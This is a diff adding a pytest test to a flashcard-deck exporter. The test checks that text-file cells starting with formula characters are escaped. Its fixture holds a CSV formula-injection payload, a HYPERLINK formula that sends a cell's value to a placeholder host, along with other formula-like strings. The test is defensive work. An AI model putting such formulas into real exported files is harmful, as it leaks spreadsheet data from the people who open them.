@@ -176,6 +176,23 @@ def test_the_text_file_tells_anki_how_to_read_it(deck: Path, tmp_path: Path) -> 
     assert any(line.startswith('"#1 among') for line in lines[7:])
 
 
+def test_no_cell_of_the_text_file_reads_as_a_formula(tmp_path: Path, home: Path) -> None:
+    # Front and Back are HTML (a character reference); tags and the deck's name are plain
+    # text, so an underscore goes first: '=HYPERLINK(…)' as a title leaked data.
+    path = tmp_path / "formula.yaml"
+    path.write_text(
+        'id: formula\ntitle: "=HYPERLINK(\\"http://x.example/?q=\\"&A1)"\ntags: ["@SUM(1+1)"]\n'
+        "excerpts:\n  - {id: e, page: 1, text: t, questions: [{q: '=1+1?', a: A}]}\n",
+        encoding="utf-8",
+    )
+    output = tmp_path / "formula.txt"
+    assert main(["export", "csv", str(path), "-o", str(output)]) == 0
+    (line,) = output.read_text(encoding="utf-8").splitlines()[7:]
+    cells = [cell.strip('"') for cell in line.split("\t")]
+    assert cells[0].startswith("&#61;")
+    assert cells[2].startswith("_@SUM") and cells[3].startswith("_=HYPERLINK")
+
+
 def test_an_imported_deck_is_exported_by_its_id_without_a_new_collection(
     deck: Path, tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
